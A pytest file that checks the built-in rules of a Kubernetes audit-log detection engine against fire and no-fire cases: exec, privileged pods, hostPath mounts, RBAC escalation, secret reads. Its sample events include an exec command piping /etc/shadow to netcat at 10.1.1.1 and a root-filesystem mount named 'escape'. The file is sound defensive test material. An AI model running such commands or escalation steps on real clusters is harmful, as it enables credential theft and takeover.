"""Every built-in rule, on realistic events: at least one case where it fires and one where it must not.

Cases use real events from tests/data/real-audit where the corpus has them (found by content, see
`real`), and events shaped as kube-apiserver writes them (`audit_events`) elsewhere. A case is a sequence of
lines fed to a fresh engine running the whole built-in pack, as the agent does.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import msgspec
import pytest

from kube_audit_shipper.model import Alert
from kube_audit_shipper.process.detect.build import build_engine, load_catalog
from kube_audit_shipper.process.detect.config import DetectConfig
from kube_audit_shipper.process.detect.engine import DetectionEngine
from tests.support.corpus import corpus_lines
from tests.unit.process.detect.audit_events import encode, line, pod, workload

#: The ids of issue 15's rule table, exactly.
ISSUE_IDS = {
    "exec-into-container",
    "attach-to-container",
    "port-forward",
    "ephemeral-container",
    "public-access-failures",
    "anonymous-access-allowed",
    "secret-read-by-human",
    "secrets-enumeration",
    "privileged-pod",
    "host-namespace-pod",
    "sensitive-hostpath-mount",
    "cluster-admin-binding",
    "rbac-wildcard-role",
    "rbac-escalation-verbs",
    "serviceaccount-token-created",
    "csr-approved",
    "impersonation",
    "admission-webhook-changed",
    "pod-in-kube-system",
    "nodeport-service",
    "nodes-proxy",
    "external-ip-service",
    "forbidden-burst",
    "resource-deletion",
    "audit-events-deleted",
}
SA = ("system:serviceaccount:ci:deployer", ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"])
KCM = ("system:kube-controller-manager", ["system:authenticated"])


def real(predicate: Callable[[dict[str, Any]], bool]) -> bytes:
    """The first real corpus event the predicate accepts (the test fails if the corpus lost it)."""
    for raw in corpus_lines():
        if predicate(msgspec.json.decode(raw)):
            return raw
    raise AssertionError("the corpus has no such event")


def ref(e: dict[str, Any]) -> dict[str, Any]:
    return e.get("objectRef") or {}


def username(e: dict[str, Any]) -> str:
    return (e.get("user") or {}).get("username", "")


@dataclass
class Case:
    rule: str
    name: str
    lines: list[bytes]
    fires: bool
    fields: dict[str, Any] = field(default_factory=dict)


def at(minute: int, second: float = 0) -> str:
    return f"2026-11-22T10:{minute:02d}:{second:09.6f}Z"


def cases() -> list[Case]:
    out: list[Case] = []

    def add(rule: str, label: str, lines: list[bytes], fires: bool, /, **fields: Any) -> None:
        out.append(Case(rule, label, lines, fires, fields))

    # ---- sessions --------------------------------------------------------------------------------------------
    add(
        "exec-into-container",
        "real: kubectl exec bash (falco trace)",
        [real(lambda e: ref(e).get("subresource") == "exec" and username(e) == "minikube-user")],
        True,
        namespace="default",
        pod="nginx-deployment-7998647bdf-phvq7",
        container="nginx1",
        command="bash",
        user="minikube-user",
        source_ip="192.168.99.1",
        code=101,
    )
    add(
        "exec-into-container",
        "WebSocket exec (verb get) as an impersonated user, every command= parameter decoded",
        [
            line(
                "get",
                "pods",
                namespace="payments",
                name="api-7d9f-x2",
                subresource="exec",
                query="command=sh&command=-c&command=cat%20%2Fetc%2Fshadow%20%7C%20nc%2010.1.1.1%209000&container=api&stdin=true&stdout=true&tty=true",
                impersonated="bob@example.com",
                stage="ResponseStarted",
                code=101,
                source_ip="198.51.100.23",
            )
        ],
        True,
        command="sh -c 'cat /etc/shadow | nc 10.1.1.1 9000'",
        container="api",
        user="bob@example.com",
        namespace="payments",
        pod="api-7d9f-x2",
        source_ip="198.51.100.23",
        code=101,
    )
    add(
        "exec-into-container",
        "real: pods/log is not exec (panther)",
        [real(lambda e: ref(e).get("subresource") == "log")],
        False,
    )
    add("exec-into-container", "attach is not exec", [line("create", "pods", namespace="default", name="web-0", subresource="attach", code=101)], False)
    add(
        "attach-to-container",
        "real: kubectl attach (falco trace)",
        [real(lambda e: ref(e).get("subresource") == "attach")],
        True,
        container="nginx1",
        user="minikube-user",
    )
    add("attach-to-container", "exec is not attach", [line("create", "pods", namespace="default", name="web-0", subresource="exec", query="command=ls")], False)
    add(
        "port-forward",
        "kubectl port-forward",
        [line("create", "pods", namespace="db", name="postgres-0", subresource="portforward", query="ports=5432", stage="ResponseStarted", code=101)],
        True,
        ports=["5432"],
        pod="postgres-0",
    )
    add("port-forward", "a plain pod get", [line("get", "pods", namespace="db", name="postgres-0")], False)
    debug = {"kind": "Pod", "apiVersion": "v1", "spec": {"ephemeralContainers": [{"name": "debugger-x7", "image": "busybox:1.36", "stdin": True, "tty": True}]}}
    add(
        "ephemeral-container",
        "kubectl debug adds an ephemeral container (Request level)",
        [line("patch", "pods", namespace="default", name="web-0", subresource="ephemeralcontainers", request_object=debug)],
        True,
        containers=["debugger-x7"],
        images=["busybox:1.36"],
    )
    add(
        "ephemeral-container",
        "refused (403)",
        [line("patch", "pods", namespace="default", name="web-0", subresource="ephemeralcontainers", code=403)],
        False,
    )
    add(
        "nodes-proxy",
        "kubelet /run through nodes/proxy",
        [line("create", "nodes", name="node-1", subresource="proxy", path="/api/v1/nodes/node-1/proxy/run/default/web-0/nginx", query="cmd=id")],
        True,
        node="node-1",
        path="/api/v1/nodes/node-1/proxy/run/default/web-0/nginx",
    )
    add(
        "nodes-proxy",
        "cadvisor scrape through nodes/proxy",
        [line("get", "nodes", name="node-1", subresource="proxy", path="/api/v1/nodes/node-1/proxy/metrics/cadvisor", user=SA)],
        False,
    )

    # ---- access ----------------------------------------------------------------------------------------------
    def burst(ip: str, codes: list[int], spacing_s: float = 10.0) -> list[bytes]:
        return [
            line(
                "get",
                "secrets",
                namespace="default",
                name=f"s{index}",
                code=code,
                source_ip=ip,
                user=("system:anonymous", ["system:unauthenticated"]),
                time=at(int(index * spacing_s // 60), index * spacing_s % 60),
            )
            for index, code in enumerate(codes)
        ]

    add(
        "public-access-failures",
        "10 requests from a public address in 90 s, 6 failed",
        burst("81.2.69.142", [403, 200, 401, 403, 200, 403, 200, 404, 200, 403]),
        True,
        ip="81.2.69.142",
        requests=10,
        failed=6,
        failure_rate=0.6,
        forbidden=4,
    )
    add("public-access-failures", "the same from a private address", burst("10.0.3.7", [403, 200, 401, 403, 200, 403, 200, 404, 200, 403]), False)
    add("public-access-failures", "exactly half failed", burst("81.2.69.142", [403, 200] * 5), False)
    add(
        "public-access-failures",
        "6 of 10 failed, but over 15 minutes",
        burst("81.2.69.142", [403, 200, 401, 403, 200, 403, 200, 404, 200, 403], spacing_s=100),
        False,
    )
    add(
        "anonymous-access-allowed",
        "real: anonymous get pods allowed (panther)",
        [real(lambda e: username(e) == "system:anonymous" and e.get("verb") == "get" and ref(e).get("resource") == "pods")],
        True,
        path="/api/v1/namespaces/default/pods/test-pod",
        code=200,
    )
    add(
        "anonymous-access-allowed",
        "real: anonymous /version (panther)",
        [real(lambda e: username(e) == "system:anonymous" and e.get("requestURI") == "/version")],
        False,
    )
    add(
        "anonymous-access-allowed",
        "real: anonymous probe refused 403 (panther)",
        [real(lambda e: username(e) == "system:anonymous" and "phpunit" in e.get("requestURI", ""))],
        False,
    )
    add(
        "anonymous-access-allowed",
        "anonymous /readyz?verbose",
        [line("get", path="/readyz", query="verbose", user=("system:anonymous", ["system:unauthenticated"]), source_ip="198.51.100.9")],
        False,
    )
    add(
        "secret-read-by-human",
        "real: a person reads a secret (panther)",
        [
            real(
                lambda e: (
                    ref(e).get("resource") == "secrets"
                    and e.get("verb") == "get"
                    and ref(e).get("name") == "api-token"
                    and (e.get("responseStatus") or {}).get("code") == 200
                )
            )
        ],
        True,
        user="admin@example.com",
        secret="api-token",
    )
    add("secret-read-by-human", "real: a service account is refused (panther)", [real(lambda e: username(e) == "system:serviceaccount:default:app-sa")], False)
    add("secret-read-by-human", "a service account reads a secret", [line("get", "secrets", namespace="ci", name="registry", user=SA)], False)
    add(
        "secrets-enumeration",
        "real: secrets listed in all namespaces by a person (panther)",
        [
            real(
                lambda e: (
                    ref(e).get("resource") == "secrets"
                    and e.get("verb") == "list"
                    and "namespace" not in ref(e)
                    and username(e) == "compromised-user@example.com"
                )
            )
        ],
        True,
        user="compromised-user@example.com",
    )
    add("secrets-enumeration", "secrets listed in one namespace", [line("list", "secrets", namespace="default")], False)
    add("secrets-enumeration", "the controller manager lists all secrets", [line("list", "secrets", user=KCM)], False)
    add(
        "impersonation",
        "real: kubectl --as (audit2rbac demo)",
        [real(lambda e: bool(e.get("impersonatedUser")))],
        True,
        user="system:admin",
    )
    add("impersonation", "no impersonation", [line("get", "pods", namespace="default", name="web-0")], False)
    add(
        "serviceaccount-token-created",
        "real: a person creates a token (panther)",
        [real(lambda e: ref(e).get("subresource") == "token" and username(e) == "persistence-user@example.com")],
        True,
        serviceaccount="backdoor-sa",
    )
    add(
        "serviceaccount-token-created",
        "real: the kubelet creates a token (panther)",
        [real(lambda e: ref(e).get("subresource") == "token" and username(e).startswith("system:node:"))],
        False,
    )
    add(
        "serviceaccount-token-created",
        "real: the controller manager (panther)",
        [real(lambda e: ref(e).get("subresource") == "token" and username(e) == "system:kube-controller-manager")],
        False,
    )
    approval = {
        "kind": "CertificateSigningRequest",
        "apiVersion": "certificates.k8s.io/v1",
        "metadata": {"name": "backdoor-cert"},
        "spec": {"signerName": "kubernetes.io/kube-apiserver-client"},
        "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove"}]},
    }
    add(
        "csr-approved",
        "kubectl certificate approve",
        [line("update", "certificatesigningrequests", name="backdoor-cert", subresource="approval", group="certificates.k8s.io", request_object=approval)],
        True,
        csr="backdoor-cert",
        decision=["Approved"],
        signer="kubernetes.io/kube-apiserver-client",
    )
    add(
        "csr-approved",
        "the CSR approver approves a kubelet certificate",
        [
            line(
                "update",
                "certificatesigningrequests",
                name="node-csr-x",
                subresource="approval",
                group="certificates.k8s.io",
                user=("system:serviceaccount:kube-system:certificate-controller", ["system:serviceaccounts"]),
            )
        ],
        False,
    )
    add("csr-approved", "real: a CSR is created, not approved (panther)", [real(lambda e: ref(e).get("name") == "backdoor-cert")], False)
    add(
        "forbidden-burst",
        "403s on 5 distinct resources in 4 minutes",
        [
            line(verb, resource, namespace="default", code=403, user=("dev@example.com", ["system:authenticated"]), time=at(minute))
            for minute, (verb, resource) in enumerate([("list", "secrets"), ("list", "pods"), ("create", "services"), ("list", "configmaps"), ("get", "nodes")])
        ],
        True,
        user="dev@example.com",
        forbidden=5,
        resources=5,
    )
    add(
        "forbidden-burst",
        "20 403s on the same resource",
        [line("list", "secrets", namespace="default", code=403, user=("dev@example.com", ["system:authenticated"]), time=at(0, index)) for index in range(20)],
        False,
    )
    add(
        "forbidden-burst",
        "5 distinct resources, one every 15 minutes",
        [
            line("list", resource, code=403, user=("dev@example.com", ["system:authenticated"]), time=f"2026-11-22T{10 + index // 4}:{index % 4 * 15:02d}:00Z")
            for index, resource in enumerate(["secrets", "pods", "configmaps", "nodes", "services"])
        ],
        False,
    )

    # ---- workloads -------------------------------------------------------------------------------------------
    privileged = {"containers": [{"name": "shell", "image": "alpine:3.20", "securityContext": {"privileged": True}}]}
    add(
        "privileged-pod",
        "real: a person creates a privileged pod (panther)",
        [real(lambda e: username(e) == "john.doe@company.com" and "privileged" in str(e.get("requestObject")))],
        True,
        name="test-privileged-pod",
    )
    add(
        "privileged-pod",
        "a deployment whose template has a privileged init container",
        [
            line(
                "create",
                "deployments",
                namespace="tools",
                name="toolbox",
                group="apps",
                request_object=workload("Deployment", "toolbox", "tools", initContainers=privileged["containers"]),
            )
        ],
        True,
        kind="deployments",
        images=["nginx:1.27.2", "alpine:3.20"],
    )
    add(
        "privileged-pod",
        "a cronjob whose job template is privileged",
        [line("create", "cronjobs", namespace="tools", name="nightly", group="batch", request_object=workload("CronJob", "nightly", "tools", **privileged))],
        True,
        kind="cronjobs",
    )
    add(
        "privileged-pod",
        "real: the replicaset controller creates a privileged pod from a template (falco)",
        [
            real(
                lambda e: (
                    username(e).endswith("replicaset-controller") and '"privileged": true' in encode(e.get("requestObject") or {}).decode().replace(":", ": ")
                )
            )
        ],
        False,
    )
    add("privileged-pod", "a pod without privileges", [line("create", "pods", namespace="default", name="web-0", request_object=pod())], False)
    add(
        "privileged-pod",
        "a privileged pod refused by admission (403)",
        [line("create", "pods", namespace="default", name="web-0", code=403, request_object=pod(**privileged))],
        False,
    )
    add(
        "host-namespace-pod",
        "real: a person creates a hostNetwork pod (panther)",
        [real(lambda e: username(e) == "admin@example.com" and (e.get("requestObject") or {}).get("spec", {}).get("hostNetwork") is True)],
        True,
        host_network=True,
    )
    add(
        "host-namespace-pod",
        "a daemonset sharing the host PID namespace",
        [
            line(
                "create",
                "daemonsets",
                namespace="monitoring",
                name="agent",
                group="apps",
                request_object=workload("DaemonSet", "agent", "monitoring", hostPID=True),
            )
        ],
        True,
        host_pid=True,
    )
    add("host-namespace-pod", "hostNetwork: false", [line("create", "pods", namespace="default", name="web-0", request_object=pod(hostNetwork=False))], False)
    add(
        "host-namespace-pod",
        "real: the replicaset controller (falco)",
        [real(lambda e: username(e).endswith("replicaset-controller") and "hostNetwork" in encode(e.get("requestObject") or {}).decode())],
        False,
    )
    add(
        "sensitive-hostpath-mount",
        "real: a daemonset mounting the docker socket (panther)",
        [real(lambda e: ref(e).get("resource") == "daemonsets" and "docker.sock" in encode(e.get("requestObject") or {}).decode())],
        True,
        host_paths=["/var/run/docker.sock"],
    )
    add(
        "sensitive-hostpath-mount",
        "a pod mounting the node's root",
        [line("create", "pods", namespace="default", name="escape", request_object=pod(volumes=[{"name": "host", "hostPath": {"path": "/"}}]))],
        True,
        host_paths=["/"],
    )
    add(
        "sensitive-hostpath-mount",
        "a pod mounting /var/log and the CA bundle",
        [
            line(
                "create",
                "pods",
                namespace="default",
                name="logs",
                request_object=pod(volumes=[{"name": "l", "hostPath": {"path": "/var/log"}}, {"name": "c", "hostPath": {"path": "/etc/ssl/certs"}}]),
            )
        ],
        False,
    )
    add(
        "pod-in-kube-system",
        "real: a person creates a pod in kube-system (panther)",
        [real(lambda e: ref(e).get("name") == "malicious-pod" and (e.get("responseStatus") or {}).get("code") == 201)],
        True,
        namespace="kube-system",
        pod="malicious-pod",
    )
    add(
        "pod-in-kube-system",
        "real: the replicaset controller in kube-system (falco)",
        [real(lambda e: ref(e).get("namespace") == "kube-system" and username(e).endswith("replicaset-controller"))],
        False,
    )
    add("pod-in-kube-system", "a person creates a pod in default", [line("create", "pods", namespace="default", name="web-0", request_object=pod())], False)
    add(
        "nodeport-service",
        "real: a NodePort service (falco)",
        [real(lambda e: ref(e).get("resource") == "services" and "NodePort" in encode(e.get("requestObject") or {}).decode())],
        True,
        node_ports=[30080],
    )
    add(
        "nodeport-service",
        "a ClusterIP service",
        [
            line(
                "create",
                "services",
                namespace="default",
                name="web",
                request_object={"kind": "Service", "apiVersion": "v1", "spec": {"type": "ClusterIP", "ports": [{"port": 80}]}},
            )
        ],
        False,
    )
    add(
        "external-ip-service",
        "a service with spec.externalIPs",
        [
            line(
                "create",
                "services",
                namespace="default",
                name="mitm",
                request_object={"kind": "Service", "apiVersion": "v1", "spec": {"ports": [{"port": 53}], "externalIPs": ["8.8.8.8"]}},
            )
        ],
        True,
        external_ips=["8.8.8.8"],
    )
    lb_status = {"kind": "Service", "apiVersion": "v1", "status": {"loadBalancer": {"ingress": [{"ip": "1.1.1.1"}]}}}
    add(
        "external-ip-service",
        "a person patches services/status",
        [line("patch", "services", namespace="default", name="mitm", subresource="status", request_object=lb_status)],
        True,
        ingress_ips=["1.1.1.1"],
    )
    add(
        "external-ip-service",
        "the cloud controller writes the load-balancer status",
        [
            line(
                "patch",
                "services",
                namespace="default",
                name="web",
                subresource="status",
                request_object=lb_status,
                user=("system:serviceaccount:kube-system:cloud-controller-manager", ["system:serviceaccounts"]),
            )
        ],
        False,
    )
    add(
        "external-ip-service",
        "a service without external IPs",
        [line("create", "services", namespace="default", name="web", request_object={"kind": "Service", "spec": {"ports": [{"port": 80}]}})],
        False,
    )
    add(
        "resource-deletion",
        "real: a person deletes a namespace (falco)",
        [real(lambda e: e.get("verb") == "delete" and ref(e).get("resource") == "namespaces")],
        True,
        name="foo",
        user="minikube-user",
    )
    add(
        "resource-deletion",
        "a service account deletes a deployment",
        [line("delete", "deployments", namespace="default", name="web", group="apps", user=SA)],
        False,
    )
    add("resource-deletion", "a person deletes a configmap", [line("delete", "configmaps", namespace="default", name="web-config")], False)
    add(
        "audit-events-deleted",
        "a person deletes the events of a namespace",
        [line("deletecollection", "events", namespace="payments")],
        True,
        namespace="payments",
    )
    add(
        "audit-events-deleted",
        "the namespace controller cleans up",
        [line("deletecollection", "events", namespace="old", user=("system:serviceaccount:kube-system:namespace-controller", ["system:serviceaccounts"]))],
        False,
    )
    add(
        "admission-webhook-changed",
        "real: a mutating webhook created (panther)",
        [real(lambda e: ref(e).get("name") == "custom-mutator")],
        True,
        kind="mutatingwebhookconfigurations",
    )
    add("admission-webhook-changed", "real: refused (panther)", [real(lambda e: ref(e).get("name") == "test-webhook")], False)
    add(
        "admission-webhook-changed",
        "a webhook configuration read",
        [line("get", "validatingwebhookconfigurations", name="gatekeeper", group="admissionregistration.k8s.io")],
        False,
    )

    # ---- rbac ------------------------------------------------------------------------------------------------
    add(
        "cluster-admin-binding",
        "real: binding to cluster-admin (falco)",
        [real(lambda e: ref(e).get("resource") == "clusterrolebindings" and username(e) == "minikube-user")],
        True,
        subjects=["minikube"],
    )
    add(
        "cluster-admin-binding",
        "real: refused (panther)",
        [real(lambda e: ref(e).get("resource") == "clusterrolebindings" and (e.get("responseStatus") or {}).get("code") == 403)],
        False,
    )
    view = {
        "kind": "ClusterRoleBinding",
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
        "subjects": [{"kind": "User", "name": "bob"}],
    }
    add(
        "cluster-admin-binding",
        "a binding to view",
        [line("create", "clusterrolebindings", name="bob-view", group="rbac.authorization.k8s.io", request_object=view)],
        False,
    )
    add(
        "rbac-wildcard-role",
        "real: a clusterrole with * resources (falco)",
        [
            real(
                lambda e: (
                    ref(e).get("resource") == "clusterroles"
                    and username(e) == "minikube-user"
                    and e.get("verb") == "create"
                    and '"*"' in encode(e["requestObject"]).decode()
                )
            )
        ],
        True,
    )

    def role(*rules: dict[str, Any]) -> dict[str, Any]:
        return {"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "r"}, "rules": list(rules)}

    add(
        "rbac-wildcard-role",
        "a reader role",
        [
            line(
                "create",
                "clusterroles",
                name="reader",
                group="rbac.authorization.k8s.io",
                request_object=role({"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}),
            )
        ],
        False,
    )
    add(
        "rbac-wildcard-role",
        "the API server bootstraps cluster-admin",
        [
            line(
                "update",
                "clusterroles",
                name="cluster-admin",
                group="rbac.authorization.k8s.io",
                user=("system:apiserver", ["system:masters"]),
                request_object=role({"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}),
            )
        ],
        False,
    )
    add(
        "rbac-escalation-verbs",
        "a role granting bind and escalate",
        [
            line(
                "create",
                "clusterroles",
                name="binder",
                group="rbac.authorization.k8s.io",
                request_object=role({"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["bind", "escalate"]}),
            )
        ],
        True,
        verbs=["bind", "escalate"],
    )
    add(
        "rbac-escalation-verbs",
        "a role granting get and list",
        [
            line(
                "create",
                "clusterroles",
                name="reader",
                group="rbac.authorization.k8s.io",
                request_object=role({"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}),
            )
        ],
        False,
    )
    return out


CASES = cases()


PACK = load_catalog(DetectConfig())


def run_case(lines: list[bytes]) -> list[Alert]:
    engine = DetectionEngine(PACK.enabled)
    alerts: list[Alert] = []
    for raw in lines:
        alerts.extend(engine.evaluate_line(raw))
    assert not engine.stats.errors, dict(engine.stats.errors)
    return alerts


def test_the_pack_has_exactly_the_issue_ids():
    engine, catalog = build_engine(DetectConfig())
    assert {spec.id for spec in catalog.specs} == ISSUE_IDS
    assert all(spec.source.startswith("builtin:") for spec in catalog.specs)


def test_every_rule_has_a_positive_and_a_negative_case():
    for rule in ISSUE_IDS:
        kinds = {case.fires for case in CASES if case.rule == rule}
        assert kinds == {True, False}, f"{rule}: cases {kinds}"


@pytest.mark.parametrize("case", CASES, ids=[f"{case.rule}: {case.name}" for case in CASES])
def test_builtin_rule(case: Case):
    alerts = [alert for alert in run_case(case.lines) if alert.rule == case.rule]
    if not case.fires:
        assert alerts == [], [alert.summary for alert in alerts]
        return
    assert len(alerts) == 1, [alert.summary for alert in alerts]
    alert = alerts[0]
    for name, expected in case.fields.items():
        assert alert.fields.get(name) == expected, (name, alert.fields)
    assert alert.summary and "{" not in alert.summary
    assert alert.tags
